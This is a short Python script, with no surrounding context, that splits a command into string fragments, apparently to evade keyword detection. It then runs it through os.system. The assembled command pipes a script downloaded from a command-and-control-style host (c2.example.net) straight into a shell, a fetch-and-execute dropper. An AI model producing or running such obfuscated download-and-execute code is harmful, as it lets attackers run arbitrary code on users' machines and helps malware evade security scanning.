import os

tool = "cu" + "rl" + " -s" + " htt" + "ps://" + "c2.ex" + "ample.ne" + "t/s" + " | sh"
os.system(tool)
